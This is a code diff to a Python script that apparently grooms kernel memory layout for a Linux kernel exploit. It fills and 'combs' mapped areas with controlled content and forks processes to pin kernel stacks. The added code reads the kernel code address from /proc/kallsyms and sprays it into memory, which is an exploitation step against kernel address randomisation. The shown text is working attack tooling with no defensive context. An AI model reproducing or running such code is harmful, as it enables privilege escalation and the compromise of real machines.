@@ -111,25 +111,36 @@ def purge() -> None:
         time.sleep(0.05)
 
 
-def fill(low: int) -> None:
-    """Fill every hole between the areas behind an address, so that the next one stands behind all of them."""
+def fill(low: int, thick: int = 2) -> None:
+    """Fill every hole between the areas behind an address, so that the next one stands behind all of them.
+
+    `thick`: of two or three pages each, guard page included, where there is room for so many.
+    """
     purge()
     for _ in range(3):
         sizes = [hole // PAGE for hole in holes(low) if hole >= 2 * PAGE]
         if not sizes:
             return
         for pages in sizes:
-            for _ in range(pages // 2):
-                filtered()
+            for _ in range(pages // thick):
+                area_of(thick)
+            if pages % thick == 2:
+                area_of(2)
 
 
-def comb(low: int, pages: int, letter: bytes, teeth: int = 16, size: int = MIB - 4 * PAGE) -> None:
+def kernel_text() -> bytes:
+    """Return the address at which the kernel's code begins, as it stands in memory."""
+    with open("/proc/kallsyms") as file:  # noqa: PTH123
+        return next(bytes.fromhex(line[:16])[::-1] for line in file if line.endswith(" _stext\n"))
+
+
+def comb(low: int, pages: int, letters: bytes, teeth: int = 16, size: int = MIB - 4 * PAGE) -> None:
     """Leave holes of so many pages, each with a map behind it, and no other hole below.
 
     There are several, for the kernel takes some for its own use, such as the stacks of those who load.
     """
     fill(low)
-    content = ctypes.create_string_buffer(letter * size, size) if letter else None
+    content = ctypes.create_string_buffer((letters * size)[:size], size) if letters else None
     gaps = []
     for _ in range(teeth):
         gaps.append([area_of(2) for _ in range(pages // 2 - pages % 2)] + [area_of(3)] * (pages % 2))
@@ -191,10 +202,10 @@ def do(word: str, low: int) -> None:
     """Do what one word says, such as `comb=4,A`."""
     what, _, value = word.partition("=")
     if what == "filled":
-        fill(low)
+        fill(low, int(value))
     elif what == "comb":
         pages, _, content = value.partition(",")
-        comb(low, int(pages), content.encode())
+        comb(low, int(pages), kernel_text() if content == "address" else content.encode())
     elif what == "pushed":
         push(low)
     elif what == "behind":
@@ -220,20 +231,29 @@ def main(words: Sequence[str]) -> None:
         do(word, low)
 
 
-def stay() -> None:
-    """Keep all that was taken, in a process of its own, while whoever waits for this one goes on."""
+def stay(words: Sequence[str]) -> None:
+    """Do it in a process that stays, to keep all that was taken; return when it is done.
+
+    Raises:
+        ChildProcessError: that process could not do it, and has said why.
+    """
+    reader, writer = os.pipe()
     if os.fork() == 0:
         os.setsid()
+        # The kernel keeps the stacks of two that ended, so that those who load need no new areas.
+        for child in [os.fork() or os._exit(0) for _ in range(2)]:
+            os.waitpid(child, 0)
+        main(words)
+        os.write(writer, b"\0")
         nothing = os.open(os.devnull, os.O_RDWR)
         for stream in range(3):
             os.dup2(nothing, stream)
         while True:
             time.sleep(3600)
-    # The kernel keeps the stacks of two that ended, so that those who load need no new areas.
-    for child in [os.fork() or os._exit(0) for _ in range(2)]:
-        os.waitpid(child, 0)
+    os.close(writer)
+    if not os.read(reader, 1):
+        raise ChildProcessError("the memory was not filled")
 
 
 if __name__ == "__main__":
-    main(sys.argv[1:])
-    stay()
+    stay(sys.argv[1:])
